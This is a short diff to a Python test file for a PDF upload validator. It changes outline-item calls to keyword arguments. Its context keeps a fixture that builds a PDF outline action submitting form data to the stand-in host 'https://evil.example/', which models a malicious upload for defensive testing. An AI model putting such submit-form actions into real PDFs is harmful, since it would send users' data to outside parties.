@@ -255,7 +255,7 @@ def _names_javascript(writer):
 
 
 def _outline_submit(writer):
-    item = writer.add_outline_item("版面", 0)
+    item = writer.add_outline_item(title="版面", page_number=0)
     item.get_object()[NameObject("/A")] = _action(
         "/SubmitForm", F=TextStringObject("https://evil.example/")
     )
@@ -300,7 +300,7 @@ def test_pdf_field_accepts_links_to_pages_and_web_addresses():
                 Next=_action("/GoTo", D=ArrayObject([NumberObject(0)])),
             ),
         )
-        writer.add_outline_item("版面", 0)
+        writer.add_outline_item(title="版面", page_number=0)
 
     content = _pdf_with(links)
     assert UploadedPdfField().clean(upload(content, "page.pdf", "application/pdf"))
